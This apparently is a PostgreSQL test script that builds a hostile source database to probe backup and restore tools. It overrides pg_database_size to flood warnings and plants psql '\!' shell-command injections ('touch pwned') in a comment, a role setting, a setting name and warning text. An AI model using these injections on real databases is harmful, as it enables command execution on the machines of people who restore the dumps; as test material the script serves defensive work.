-- What a backup asks of its source, answered by its owner: a flood of warnings before an absurd size, and settings whose names and
-- values are meant for psql or a shell. Of a built-in function only a body in SQL that the planner inlines is ever run.
CREATE FUNCTION public.flood(oid) RETURNS bigint STRICT LANGUAGE plpgsql AS $$
BEGIN
    FOR n IN 1..1000 LOOP
        RAISE WARNING E'\n\\! cd /pgdata/*/ && touch pwned\n%', pg_catalog.repeat('flood ', 20);
    END LOOP;
    RETURN 1;
END
$$;
CREATE OR REPLACE FUNCTION pg_catalog.pg_database_size(oid) RETURNS bigint STRICT LANGUAGE sql AS 'SELECT public.flood($1)';

COMMENT ON DATABASE postgres IS E'\n\\! cd /pgdata/*/ && touch pwned\n';
ALTER ROLE postgres SET application_name = E'\n\\! cd /pgdata/*/ && touch pwned\n';
ALTER DATABASE postgres SET client_min_messages = debug5;
ALTER DATABASE postgres SET "odd.name" = E'''; \\! cd /pgdata/*/ && touch pwned';
